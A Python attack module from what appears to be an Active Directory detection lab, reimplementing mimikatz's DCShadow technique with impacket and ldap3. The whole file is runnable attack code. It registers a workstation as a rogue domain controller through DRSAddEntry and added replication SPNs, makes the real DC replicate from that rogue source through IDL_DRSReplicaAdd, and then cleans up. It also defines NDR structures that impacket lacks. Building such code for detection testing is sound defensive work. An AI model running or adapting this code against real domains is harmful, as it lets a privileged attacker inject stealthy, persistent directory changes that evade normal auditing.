"""DCShadow steps of the dcwatch lab (mimikatz ``lsadump::dcshadow`` as a domain admin on a
workstation), run inside a workstation namespace like lab/attacks.py:

    ip netns exec dcw-ws1 /var/lib/dcwatch-lab/venv/bin/python -m lab.attacks_dcshadow STEP ...

What mimikatz does, step by step, with impacket and ldap3:
1. register the workstation as a DC: a ``server`` object and its ``nTDSDSA`` child under the
   site's Servers container (Configuration partition), and the replication SPNs
   (``GC/<host>/<forest>``, ``E3514235-4B06-11D1-AB04-00C04FC2DCD2/<dsa guid>/<domain>``) on
   the computer account (LDAP);
2. ``/push``: DRSUAPI DRSBind + IDL_DRSReplicaAdd (opnum 5) on the real DC naming the rogue DSA
   (``<dsa guid>._msdcs.<forest>``) as a replication source, so that the DC pulls the rogue's
   changes with IDL_DRSGetNCChanges (impacket has no DRSReplicaAdd: its NDR is defined here,
   MS-DRSR 4.1.19);
3. unregister: the objects and SPNs are removed again.
"""

from __future__ import annotations

import argparse
import contextlib
import sys
import uuid

from impacket.dcerpc.v5 import drsuapi, epm, transport
from impacket.dcerpc.v5.dtypes import DWORD, LPWSTR, ULONG
from impacket.dcerpc.v5.ndr import (
    NDRCALL,
    NDRPOINTERNULL,
    NDRSTRUCT,
    NDRUNION,
    NDRUniFixedArray,
)
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY, DCERPCException

from lab import attacks as base  # also applies lab.impacket_patches
from lab.attacks import DC_IP, FQDN_DOMAIN, out
from lab.attacks_dominance import BASE_DN, ldap, result

CONFIG_DN = f"CN=Configuration,{BASE_DN}"
SERVERS = f"CN=Servers,CN=Default-First-Site-Name,CN=Sites,{CONFIG_DN}"
DRS_SPN_CLASS = "E3514235-4B06-11D1-AB04-00C04FC2DCD2"  # MS-DRSR 2.2.3: the DRS RPC interface

# MS-DRSR 5.41 DRS_OPTIONS
DRS_ASYNC_OP = 0x00000001
DRS_WRIT_REP = 0x00000010


# --------------------------------------------------------------------------- MS-DRSR NDR


class REPLTIMES_BYTES(NDRUniFixedArray):
    def getDataLen(self, data, offset=0):
        return 84


class REPLTIMES(NDRSTRUCT):
    """MS-DRSR 5.164 REPLTIMES: UCHAR rgTimes[84] (a nibble per 15 minutes of the week)."""

    structure = (("rgTimes", REPLTIMES_BYTES),)


class DRS_MSG_REPADD_V1(NDRSTRUCT):
    """MS-DRSR 4.1.19.1.2 DRS_MSG_REPADD_V1."""

    structure = (
        ("pNC", drsuapi.PDSNAME),
        ("pszDsaSrc", LPWSTR),  # UTF-16, as Windows and Samba marshal it
        ("rtSchedule", REPLTIMES),
        ("ulOptions", ULONG),
    )


class DRS_MSG_REPADD(NDRUNION):
    commonHdr = (("tag", DWORD),)
    union = {1: ("V1", DRS_MSG_REPADD_V1)}


class DRSReplicaAdd(NDRCALL):
    """MS-DRSR 4.1.19 IDL_DRSReplicaAdd (opnum 5)."""

    opnum = 5
    structure = (
        ("hDrs", drsuapi.DRS_HANDLE),
        ("dwVersion", DWORD),
        ("pmsgAdd", DRS_MSG_REPADD),
    )


class DRSReplicaAddResponse(NDRCALL):
    structure = (("ErrorCode", DWORD),)


class ENTINFLIST(NDRSTRUCT):
    """MS-DRSR 5.54 ENTINFLIST: one entry (pNextEntInf NULL)."""

    structure = (
        ("pNextEntInf", NDRPOINTERNULL),
        ("Entinf", drsuapi.ENTINF),
    )


class DRS_MSG_ADDENTRYREQ_V2(NDRSTRUCT):
    """MS-DRSR 4.1.1.1.3 DRS_MSG_ADDENTRYREQ_V2."""

    structure = (("EntInfList", ENTINFLIST),)


class DRS_MSG_ADDENTRYREQ(NDRUNION):
    commonHdr = (("tag", DWORD),)
    union = {2: ("V2", DRS_MSG_ADDENTRYREQ_V2)}


class DRSAddEntry(NDRCALL):
    """MS-DRSR 4.1.1 IDL_DRSAddEntry (opnum 17)."""

    opnum = 17
    structure = (
        ("hDrs", drsuapi.DRS_HANDLE),
        ("dwInVersion", DWORD),
        ("pmsgIn", DRS_MSG_ADDENTRYREQ),
    )


# MS-DRSR 5.16.4: ATTRTYP = prefix index << 16 | last OID arc (default prefix table)
ATT_OBJECT_CLASS = 0x00000000  # 2.5.4.0
ATT_OBJECT_CATEGORY = 0x0009030E  # 1.2.840.113556.1.4.782
ATT_INVOCATION_ID = 0x00020073  # 1.2.840.113556.1.2.115
ATT_DMD_LOCATION = 0x00020024  # 1.2.840.113556.1.2.36
ATT_HAS_MASTER_NCS = 0x0002000E  # 1.2.840.113556.1.2.14
ATT_MS_DS_HAS_MASTER_NCS = 0x0009072C  # 1.2.840.113556.1.4.1836
ATT_MS_DS_HAS_DOMAIN_NCS = 0x0009071C  # 1.2.840.113556.1.4.1820
ATT_OPTIONS = 0x00090133  # 1.2.840.113556.1.4.307
ATT_MS_DS_BEHAVIOR_VERSION = 0x000905B3  # 1.2.840.113556.1.4.1459
CLASS_NTDS_DSA = 0x0017002F  # 1.2.840.113556.1.5.7000.47


def attr(attrtyp: int, *values: bytes):
    """An ATTR with its values (each a byte string in the attribute's DRS syntax)."""
    a = drsuapi.ATTR()
    a["attrTyp"] = attrtyp
    a["AttrVal"]["valCount"] = len(values)
    for v in values:
        val = drsuapi.ATTRVAL()
        val["valLen"] = len(v)
        val["pVal"] = list(v)
        a["AttrVal"]["pAVal"].append(val)
    return a


def dn_value(dn: str) -> bytes:
    """A DN-syntax (2.5.5.1) value: the DSNAME as a flat blob (no NDR conformance count)."""
    return dsname(dn).getData()[4:]


def dsname(dn: str):
    """A DSNAME naming an object by its DN only (no GUID, no SID)."""
    d = drsuapi.DSNAME()
    d["SidLen"] = 0
    d["Guid"] = drsuapi.NULLGUID
    d["Sid"] = ""
    d["NameLen"] = len(dn)
    d["StringName"] = dn + "\x00"
    # MS-DRSR 5.50: the fixed fields (56 bytes) and the name with its terminator, in bytes
    d["structLen"] = 56 + 2 * (len(dn) + 1)
    return d


def drs_bind(user: str, password: str):
    """epm map, DRSUAPI over ncacn_ip_tcp with NTLM and packet privacy, IDL_DRSBind."""
    binding = epm.hept_map(DC_IP, drsuapi.MSRPC_UUID_DRSUAPI, protocol="ncacn_ip_tcp")
    rpc = transport.DCERPCTransportFactory(binding)
    rpc.setRemoteHost(DC_IP)
    rpc.set_credentials(user, password, base.DOMAIN, "", "")
    dce = rpc.get_dce_rpc()
    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(drsuapi.MSRPC_UUID_DRSUAPI)
    req = drsuapi.DRSBind()
    req["puuidClientDsa"] = drsuapi.NTDSAPI_CLIENT_GUID
    ext = drsuapi.DRS_EXTENSIONS_INT()
    ext["cb"] = len(ext)
    ext["dwFlags"] = (drsuapi.DRS_EXT_GETCHGREQ_V6 | drsuapi.DRS_EXT_GETCHGREPLY_V6
                      | drsuapi.DRS_EXT_GETCHGREQ_V8 | drsuapi.DRS_EXT_STRONG_ENCRYPTION)
    ext["SiteObjGuid"] = drsuapi.NULLGUID
    ext["Pid"] = 0
    ext["dwReplEpoch"] = 0
    ext["dwFlagsExt"] = 0
    ext["ConfigObjGUID"] = drsuapi.NULLGUID
    ext["dwExtCaps"] = 0xFFFFFFFF
    req["pextClient"]["cb"] = len(ext.getData())
    req["pextClient"]["rgb"] = list(ext.getData())
    resp = dce.request(req)
    out(f"DRSBind as {user}: ok")
    return dce, resp["phDrs"]


# --------------------------------------------------------------------------- steps


def step_register(args) -> None:
    """Register --host as a DC: server + nTDSDSA objects, replication SPNs on its account."""
    host = args.host.upper()
    fqdn = f"{host.lower()}.{FQDN_DOMAIN}"
    conn = ldap(args.user, args.password)
    (base.WORK / f"dcshadow-{host}.spns").write_text("\n".join(spns_of(conn, host)))
    server_dn = f"CN={host},{SERVERS}"
    conn.add(server_dn, ["top", "server"], {"dNSHostName": fqdn,
                                            "serverReference": f"CN={host},CN=Computers,{BASE_DN}"})
    result(conn, f"add server {server_dn}")
    dsa_dn = f"CN=NTDS Settings,{server_dn}"
    add_ntdsdsa(args, dsa_dn)
    guid = ""
    if conn.search(dsa_dn, "(objectClass=*)", search_scope="BASE", attributes=["objectGUID"]):
        guid = str(uuid.UUID(bytes_le=conn.response[0]["raw_attributes"]["objectGUID"][0]))
    guid = guid or str(uuid.uuid4())
    (base.WORK / f"dcshadow-{host}.guid").write_text(guid)
    out(f"rogue DSA objectGUID {guid}")
    # the SPNs a DC's replication partners look for (Samba's DsAddEntry writes SPNs only for
    # an nTDSDSA object that carries a serverReference itself, which this one does not)
    spns = [f"GC/{fqdn}/{FQDN_DOMAIN}", f"{DRS_SPN_CLASS}/{guid}/{FQDN_DOMAIN}"]
    now = spns_of(conn, host)
    missing = [x for x in spns if x.lower() not in {y.lower() for y in now}]
    if missing:
        import ldap3

        conn.modify(f"CN={host},CN=Computers,{BASE_DN}",
                    {"servicePrincipalName": [(ldap3.MODIFY_ADD, missing)]})
        result(conn, f"add SPNs {missing} to {host}$")
    out(f"SPNs of {host}$ now: {spns_of(conn, host)}")
    conn.unbind()


def spns_of(conn, host: str) -> list[str]:
    conn.search(f"CN={host},CN=Computers,{BASE_DN}", "(objectClass=*)", search_scope="BASE",
                attributes=["servicePrincipalName"])
    return [str(x) for x in conn.response[0]["attributes"].get("servicePrincipalName") or []]


def add_ntdsdsa(args, dsa_dn: str) -> None:
    """nTDSDSA is a system-only class (an LDAP add is refused): DRSAddEntry creates it, as
    dcpromo and mimikatz do."""
    schema = f"CN=Schema,{CONFIG_DN}"
    ncs = [dn_value(BASE_DN), dn_value(CONFIG_DN), dn_value(schema)]
    attrs = [
        attr(ATT_OBJECT_CLASS, CLASS_NTDS_DSA.to_bytes(4, "little")),
        attr(ATT_OBJECT_CATEGORY, dn_value(f"CN=NTDS-DSA,{schema}")),
        attr(ATT_DMD_LOCATION, dn_value(schema)),
        attr(ATT_INVOCATION_ID, uuid.uuid4().bytes_le),
        attr(ATT_OPTIONS, (0).to_bytes(4, "little")),
        attr(ATT_MS_DS_BEHAVIOR_VERSION, (7).to_bytes(4, "little")),
        attr(ATT_HAS_MASTER_NCS, *ncs),
        attr(ATT_MS_DS_HAS_MASTER_NCS, *ncs),
        attr(ATT_MS_DS_HAS_DOMAIN_NCS, dn_value(BASE_DN)),
    ]
    dce, hdrs = drs_bind(args.user, args.password)
    req = DRSAddEntry()
    req["hDrs"] = hdrs
    req["dwInVersion"] = 2
    req["pmsgIn"]["tag"] = 2
    ent = req["pmsgIn"]["V2"]["EntInfList"]["Entinf"]
    ent["pName"] = dsname(dsa_dn)
    ent["ulFlags"] = 0
    ent["AttrBlock"]["attrCount"] = len(attrs)
    for a in attrs:
        ent["AttrBlock"]["pAttr"].append(a)
    dce.call(req.opnum, req)
    raw = dce.recv()
    code = int.from_bytes(raw[-4:], "little") if len(raw) >= 4 else -1
    out(f"DRSAddEntry nTDSDSA {dsa_dn}: error code 0x{code:08x}")
    with contextlib.suppress(DCERPCException):
        drsuapi.hDRSUnbind(dce, hdrs)
    dce.disconnect()


def step_push(args) -> None:
    """IDL_DRSReplicaAdd on the DC: replicate --nc from the rogue DSA (``<guid>._msdcs``)."""
    host = args.host.upper()
    path = base.WORK / f"dcshadow-{host}.guid"
    guid = path.read_text().strip() if path.exists() else str(uuid.uuid4())
    source = f"{guid}._msdcs.{FQDN_DOMAIN}"
    dce, hdrs = drs_bind(args.user, args.password)
    req = DRSReplicaAdd()
    req["hDrs"] = hdrs
    req["dwVersion"] = 1
    req["pmsgAdd"]["tag"] = 1
    v1 = req["pmsgAdd"]["V1"]
    v1["pNC"] = dsname(args.nc or BASE_DN)
    v1["rtSchedule"]["rgTimes"] = b"\x0f" * 84
    v1["pszDsaSrc"] = source + "\x00"
    v1["ulOptions"] = DRS_WRIT_REP | DRS_ASYNC_OP
    try:
        resp = dce.request(req, checkError=False)
        out(f"DRSReplicaAdd(source {source}): error code 0x{resp['ErrorCode']:08x}")
    except DCERPCException as e:
        out(f"DRSReplicaAdd(source {source}): {e}")
    try:
        drsuapi.hDRSUnbind(dce, hdrs)
    except DCERPCException as e:
        out(f"DRSUnbind: {e}")
    dce.disconnect()


def step_unregister(args) -> None:
    """Remove the SPNs and the server / nTDSDSA objects again."""
    import ldap3

    host = args.host.upper()
    path = base.WORK / f"dcshadow-{host}.spns"
    before = set(path.read_text().split("\n")) if path.exists() else set()
    conn = ldap(args.user, args.password)
    spns = [x for x in spns_of(conn, host) if x not in before]
    if spns:
        conn.modify(f"CN={host},CN=Computers,{BASE_DN}",
                    {"servicePrincipalName": [(ldap3.MODIFY_DELETE, spns)]})
        result(conn, f"remove SPNs {spns} from {host}$")
    server_dn = f"CN={host},{SERVERS}"
    conn.delete(f"CN=NTDS Settings,{server_dn}")
    result(conn, "delete nTDSDSA")
    conn.delete(server_dn)
    result(conn, "delete server")
    conn.unbind()


STEPS = {name[5:]: fn for name, fn in globals().items() if name.startswith("step_")}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="python -m lab.attacks_dcshadow")
    ap.add_argument("step", choices=sorted(STEPS))
    ap.add_argument("--user", default="")
    ap.add_argument("--password", default="")
    ap.add_argument("--host", default="WS1")
    ap.add_argument("--nc", default="")
    args = ap.parse_args(argv)
    base.WORK.mkdir(parents=True, exist_ok=True)
    STEPS[args.step](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
